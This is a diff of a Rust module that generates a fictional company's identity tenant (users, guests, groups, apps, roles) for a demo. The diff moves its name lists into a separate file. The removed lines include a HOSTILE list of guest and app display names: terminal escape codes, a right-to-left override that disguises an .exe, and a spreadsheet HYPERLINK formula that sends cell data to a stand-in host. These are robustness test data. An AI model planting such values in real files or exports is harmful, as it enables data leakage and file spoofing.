@@ -1,6 +1,14 @@
 //! Who and what is in the tenant: people, guests, groups, applications, devices, policies, roles, packages.
 //! Never names anybody or anything that exists: Tidewick Instruments builds tide gauges in Reykjavík and is invented.
 
+pub(super) mod names;
+
+pub(super) use names::{
+    AGENTS, GLOBAL_ADMINISTRATOR, HYBRID_IDENTITY_ADMINISTRATOR, PRIVILEGED_ROLE_ADMINISTRATOR,
+    ROLES,
+};
+use names::{APPS, DEPARTMENTS, FIRST, GROUPS, GUESTS, LAST, POLICIES, STAFF};
+
 use super::random::{Guid, Random};
 
 /// The company, as `homeTenantName` and the `Directory` target of PIM call it.
@@ -116,316 +124,6 @@ pub(super) mod cast {
     pub(in crate::demo) const VICTIMS: [usize; 3] = [9, 10, 11];
 }
 
-/// Name, user name, department, title.
-const STAFF: [(&str, &str, &str, &str); 12] = [
-    ("Ragnheiður Bragadóttir", "ragnheidur.bragadottir", "IT", "Head of Identity"),
-    ("Marek Toivonen", "marek.toivonen", "IT", "Service Desk Lead"),
-    ("Ifeoma Castellan", "ifeoma.castellan", "IT", "Security Analyst"),
-    ("Dov Hartigan", "dov.hartigan", "IT", "Cloud Engineer"),
-    ("Sunniva Okoye", "sunniva.okoye", "IT", "Service Desk Agent"),
-    ("Pilar Wetherby", "pilar.wetherby", "IT", "Application Owner"),
-    ("Tomasz Averill", "tomasz.averill", "Metrology", "Calibration Scientist"),
-    ("Yrsa Colquhoun", "yrsa.colquhoun", "Metrology", "Laboratory Head"),
-    ("Benedikt Ashdown", "benedikt.ashdown", "Metrology", "Deputy Laboratory Head"),
-    ("Leila Brandvold", "leila.brandvold", "Sales", "Account Manager"),
-    ("Hugo Peverell", "hugo.peverell", "Finance", "Controller"),
-    ("Noor Sandoval", "noor.sandoval", "Procurement", "Buyer"),
-];
-
-const FIRST: [&str; 50] = [
-    "Ása",
-    "Birkir",
-    "Catalina",
-    "Dagný",
-    "Einar",
-    "Farida",
-    "Gísli",
-    "Hadiza",
-    "Ísak",
-    "Jorun",
-    "Kateryna",
-    "Lúkas",
-    "Mireille",
-    "Nanami",
-    "Ólöf",
-    "Pietro",
-    "Quentin",
-    "Rúna",
-    "Sölvi",
-    "Tünde",
-    "Ugo",
-    "Vésteinn",
-    "Wiebke",
-    "Ximena",
-    "Ylva",
-    "Zoltán",
-    "Þóra",
-    "Ðeko",
-    "Anselm",
-    "Bronagh",
-    "Cillian",
-    "Desta",
-    "Eyþór",
-    "Freyja",
-    "Goran",
-    "Hrafn",
-    "Imani",
-    "Jun",
-    "Kolbrún",
-    "Levent",
-    "Magdalena",
-    "Nils",
-    "Oyelaran",
-    "Petra",
-    "Ráhel",
-    "Sindri",
-    "Tariq",
-    "Unnur",
-    "Viktor",
-    "Wen",
-];
-const LAST: [&str; 61] = [
-    "Abernethy",
-    "Bjarnason",
-    "Cavendish",
-    "Dellinger",
-    "Eldjárn",
-    "Fairweather",
-    "Guðjónsdóttir",
-    "Holloway",
-    "Ibarra",
-    "Jökulsson",
-    "Kesselring",
-    "Lockhart",
-    "Marchetti",
-    "Novotny",
-    "Oddsdóttir",
-    "Pemberton",
-    "Quiroga",
-    "Rasmussen",
-    "Sæmundsson",
-    "Thorncroft",
-    "Umarov",
-    "Vilhjálmsson",
-    "Whitlock",
-    "Xanthos",
-    "Yamagata",
-    "Zieliński",
-    "Þorgeirsson",
-    "Ashworth",
-    "Benítez",
-    "Calloway",
-    "Drummond",
-    "Ekström",
-    "Fjeld",
-    "Greaves",
-    "Hallgrímsson",
-    "Iversen",
-    "Jellicoe",
-    "Kavanagh",
-    "Löwenthal",
-    "Mbatha",
-    "Nordahl",
-    "O'Malley",
-    "Papadakis",
-    "Quill",
-    "Rosenqvist",
-    "Stefánsdóttir",
-    "Tremblay",
-    "Ulriksen",
-    "Vandermeer",
-    "Wickham",
-    "Yilmaz",
-    "Zamora",
-    "Arnarson",
-    "Bellweather",
-    "Cromarty",
-    "Dunmore",
-    "Esterházy",
-    "Finnbogason",
-    "Gallagher",
-    "Hawthorne",
-    "Ísfeld",
-];
-const DEPARTMENTS: [(&str, &str); 9] = [
-    ("Assembly", "Technician"),
-    ("Electronics", "Design Engineer"),
-    ("Firmware", "Software Engineer"),
-    ("Sales", "Account Manager"),
-    ("Finance", "Accountant"),
-    ("Logistics", "Planner"),
-    ("Metrology", "Calibration Scientist"),
-    ("Quality", "Inspector"),
-    ("People", "Partner"),
-];
-
-/// Browsers and programs, busiest first.
-pub(super) const AGENTS: [&str; 8] = [
-    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36 Edg/142.0.0.0",
-    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36",
-    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.6 Safari/605.1.15",
-    "Mozilla/5.0 (X11; Linux x86_64; rv:144.0) Gecko/20100101 Firefox/144.0",
-    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
-    "Mozilla/5.0 (Linux; Android 15) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Mobile Safari/537.36",
-    "Mozilla/5.0 (Windows NT 10.0; Microsoft Windows 10.0.26100; en-US) PowerShell/7.5.3",
-    "AZURECLI/2.79.0 (DEB) azsdk-python-core/1.35.0 Python/3.12.10",
-];
-
-/// Display names that guests and applications gave themselves: everything a screen must survive.
-pub(super) const HOSTILE: [&str; 7] = [
-    "Quay \u{1b}[2J\u{1b}[31mROOT\u{1b}[0m\u{7}",
-    "Invoice \u{202e}gpj.exe",
-    "=HYPERLINK(\"http://tally.example/?\"&A1,\"Open\")",
-    "Sup\u{200b}port\u{2060} Desk",
-    "🦑 Deep Sea 👩🏽‍🔬 Lab ❤️",
-    "潮位観測 東京 株式会社",
-    "Zalgo o\u{300}\u{301}\u{302}\u{303}\u{304}\u{305}\u{306} line\nbreak\tand tab",
-];
-
-const GUESTS: [(&str, &str, &str); 11] = [
-    ("Amandine Forsberg", "amandine.forsberg", "fjordbuoy.example"),
-    ("Osei Lundgren", "osei.lundgren", "fjordbuoy.example"),
-    ("Mirela Haugen", "mirela.haugen", "keelworks.example"),
-    ("Ruben Achterberg", "ruben.achterberg", "keelworks.example"),
-    (HOSTILE[0], "quay", "brinecoast.example"),
-    (HOSTILE[1], "invoice", "brinecoast.example"),
-    (HOSTILE[2], "tally", "brinecoast.example"),
-    (HOSTILE[3], "support-desk", "brinecoast.example"),
-    (HOSTILE[4], "deepsea", "fjordbuoy.example"),
-    (HOSTILE[5], "choi.kansoku", "choi-kansoku.example"),
-    (HOSTILE[6], "zalgo", "brinecoast.example"),
-];
-
-const APPS: [&str; 33] = [
-    "Backup Orchestrator",
-    "Tidewick People Sync",
-    "Shift Planner",
-    "Gauge Telemetry Ingest",
-    "Calibration Ledger",
-    "Harbour Portal",
-    "Expense Reef",
-    "Print Pier",
-    "Parts Catalogue",
-    "Firmware Signing",
-    "Build Lighthouse",
-    "Ticket Cove",
-    "Wiki Anchorage",
-    "Survey Sextant",
-    "Badge Gate",
-    "Payroll Ballast",
-    "Fleet Charts",
-    "Meeting Rooms",
-    "Password Locker",
-    "Log Shipper",
-    "Warehouse Scanner",
-    "Vendor Dock",
-    "Training Deck",
-    "Chat Bridge",
-    "Signature Desk",
-    "Contract Keel",
-    "Map Tiles",
-    "Translation Mate",
-    "Design Vault",
-    "Tide Forecast API",
-    "Mail Archive",
-    HOSTILE[2],
-    "Öğrenci ポータル 🦀",
-];
-
-const GROUPS: [&str; 40] = [
-    "SG-Tier0-Operators",
-    "SG-CA-Exclusions",
-    "SG-Licences-E5",
-    "SG-Licences-F3",
-    "SG-VPN-Users",
-    "SG-Assembly-Floor",
-    "SG-Electronics-CAD",
-    "SG-Firmware-Repos",
-    "SG-Finance-Ledger",
-    "SG-Quality-Records",
-    "SG-Metrology-Lab",
-    "SG-Warehouse-Scanners",
-    "SG-Print-Reykjavik",
-    "SG-Break-Glass",
-    "SG-PIM-Approvers",
-    "SG-Passkey-Pilot",
-    "SG-Autopilot-Devices",
-    "SG-Guest-Partners",
-    "SG-Backup-Readers",
-    "SG-Contractors",
-    "All Company",
-    "Assembly",
-    "Electronics",
-    "Firmware",
-    "Sales",
-    "Finance",
-    "Logistics",
-    "Metrology",
-    "Quality",
-    "People",
-    "Boat Club",
-    "Canteen",
-    "Fire Wardens",
-    "Tide Gauge 5 Launch",
-    "Supplier Audit 2026",
-    "DYN-Everyone-In-Iceland",
-    "DYN-Managed-Windows",
-    "DYN-New-Joiners",
-    "Works Council",
-    "Night Shift 🌙",
-];
-
-const POLICIES: [&str; 12] = [
-    "CA001 Block legacy authentication",
-    "CA002 Require MFA for all users",
-    "CA003 Require compliant device for Office",
-    "CA004 Require MFA for administrators",
-    "CA005 Block high sign-in risk",
-    "CA006 Require password change at high user risk",
-    "CA007 Guests: terms of use",
-    "CA008 Azure management: phishing-resistant",
-    "CA009 Register security info from trusted places",
-    "CA010 Session limit unmanaged devices",
-    "CA011 Block unknown platforms",
-    "CA012 Break glass: alert only",
-];
-
-/// Roles, most asked for first.
-pub(super) const ROLES: [Role; 14] = [
-    Role { name: "Helpdesk Administrator", template: "729827e3-9c14-49f7-bb1b-9608f156bbb8" },
-    Role { name: "User Administrator", template: "fe930be7-5e62-47db-91af-98c3a49a38b1" },
-    Role { name: "Intune Administrator", template: "3a2c62db-5318-420d-8d74-23affee5d9d5" },
-    Role { name: "Exchange Administrator", template: "29232cdf-9323-42fd-ade2-1d097af3e4de" },
-    Role { name: "Security Reader", template: "5d6b6bb7-de71-4623-b4af-96380a352509" },
-    Role { name: "Reports Reader", template: "4a5d8f65-41da-4de4-8968-e035b65339cf" },
-    Role { name: "Global Reader", template: "f2ef992c-3afb-46b9-b7cf-a126ee74c451" },
-    Role {
-        name: "Cloud Application Administrator",
-        template: "158c047a-c907-4556-b7ef-446551a6b5f7",
-    },
-    Role { name: "Authentication Administrator", template: "c4e39bd9-1100-46d3-8c65-fb160da0071f" },
-    Role { name: "Security Administrator", template: "194ae4cb-b126-40b2-bd5b-6091b380977d" },
-    Role {
-        name: "Conditional Access Administrator",
-        template: "b1be1c3e-b65d-4f19-8427-f6fa0d97feb9",
-    },
-    Role {
-        name: "Privileged Role Administrator",
-        template: "e8611ab8-c189-46e8-94e1-60213ab1f814",
-    },
-    Role {
-        name: "Hybrid Identity Administrator",
-        template: "8ac3fc64-6eca-42ea-9e69-59f4c7b60eb2",
-    },
-    Role { name: "Global Administrator", template: "62e90394-69f5-4237-9190-012177145e10" },
-];
-/// Place of Global Administrator in [`ROLES`].
-pub(super) const GLOBAL_ADMINISTRATOR: Role = ROLES[13];
-/// Place of Privileged Role Administrator in [`ROLES`].
-pub(super) const PRIVILEGED_ROLE_ADMINISTRATOR: Role = ROLES[11];
-/// Place of Hybrid Identity Administrator in [`ROLES`].
-pub(super) const HYBRID_IDENTITY_ADMINISTRATOR: Role = ROLES[12];
-
 impl User {
     /// A member of the company.
     pub(super) fn member(
@@ -505,7 +203,16 @@ impl Tenant {
 
     /// Somebody of the information technology department, the lead more often than the others.
     pub(super) fn admin(&self, random: &mut Random) -> &User {
-        &self.users[random.skewed(cast::ADMINS)]
+        &self.users[random.below(cast::ADMINS).min(random.below(cast::ADMINS))]
+    }
+
+    /// A device, one with Windows if only those will do.
+    pub(super) fn device(&self, windows: bool, random: &mut Random) -> &Device {
+        let any = random.below(self.devices.len());
+        let mut from_there = self.devices[any..].iter().chain(&self.devices);
+        from_there
+            .find(|device| !windows || device.system == "Windows")
+            .unwrap_or(&self.devices[any])
     }
 
     /// A group without a story.
